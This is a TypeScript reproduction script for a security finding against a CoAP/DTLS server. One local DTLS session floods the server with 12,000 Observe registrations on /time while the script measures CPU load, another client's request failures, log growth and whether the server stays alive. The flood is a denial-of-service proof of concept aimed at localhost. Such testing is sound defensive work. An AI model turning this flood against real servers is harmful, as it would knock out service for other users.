/**
 * Issue 10 finding 2: one DTLS session registers 12,000 observations of /time on `coaps serve`
 * (--notify-ms 1000) while another client GETs /hello every 250 ms. Reports the server's CPU
 * seconds over the run, the other client's successes, the server's log lines, and how the
 * registrations were answered.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from '../../transports/node-dgram.js';
import { CoapClient } from '../../transports/coap-node.js';
import { decodeMessage } from '../../lib/coap/codec.js';
import { Code, MessageType, OptionNumber } from '../../lib/coap/message.js';
import { cpuSeconds, fmt, IDENTITY, KEY, request, startServe, uri, type Target } from './common.js';

export async function observeFlood(target: Target, seconds: number, count = 12_000): Promise<string[]> {
  const s = await startServe(target, true, ['--notify-ms', '1000']);
  try {
    const attacker = await connect({ host: '127.0.0.1', port: s.port, psk: { identity: IDENTITY, key: KEY }, timeoutMs: 5000 });
    const codes = new Map<string, number>();
    let notifications = 0;
    attacker.on('data', (d: Uint8Array) => {
      try {
        const m = decodeMessage(d);
        if (m.type === MessageType.ACK) {
          const k = `${m.code >> 5}.${String(m.code & 31).padStart(2, '0')}${m.options.some((o) => o.number === OptionNumber.Observe) ? '+Observe' : ''}`;
          codes.set(k, (codes.get(k) ?? 0) + 1);
        } else notifications++;
      } catch {
        /* not CoAP */
      }
    });
    const victim = new CoapClient({ dtls: { psk: { identity: IDENTITY, key: KEY }, timeoutMs: 5000 } });
    await victim.connect(`coaps://127.0.0.1:${s.port}`);
    const cpu0 = cpuSeconds(s.pid);
    const logs0 = s.logLines();
    const t0 = Date.now();
    // the registrations, 500 per turn of the event loop
    for (let i = 0; i < count; i++) {
      const token = Uint8Array.of(i >> 8, i & 0xff, 0x0b);
      attacker.send(request({ messageId: i & 0xffff, token, options: [{ number: OptionNumber.Observe, value: new Uint8Array(0) }, ...uri('/time')] }));
      if (i % 500 === 499) await sleep(1);
    }
    let ok = 0;
    let failed = 0;
    let worst = 0;
    while (Date.now() - t0 < seconds * 1000) {
      const a = Date.now();
      try {
        const r = await victim.request(`coaps://127.0.0.1:${s.port}/hello`, { timeoutMs: 5000 });
        if (r.code === Code.Content) ok++;
        else failed++;
      } catch {
        failed++;
      }
      worst = Math.max(worst, Date.now() - a);
      await sleep(250);
    }
    const cpu = cpuSeconds(s.pid) - cpu0;
    const elapsed = (Date.now() - t0) / 1000;
    await victim.close().catch(() => undefined);
    await attacker.close().catch(() => undefined);
    const answers = [...codes].map(([k, v]) => `${k} x${v}`).join(', ');
    return [
      `${count} registrations from one session, ${fmt(elapsed, 0)} s: server CPU ${fmt(cpu)} s (${fmt((100 * cpu) / elapsed, 0)}% of a core)`,
      `  other client's GET /hello every 250 ms: ${ok} ok, ${failed} failed (slowest ${worst} ms)`,
      `  server log lines: ${s.logLines() - logs0}; registrations answered: ${answers || 'none'}; notifications to the attacker: ${notifications}`,
      `  server ${s.alive() ? 'alive' : 'DEAD'}`,
    ];
  } finally {
    await s.stop();
  }
}
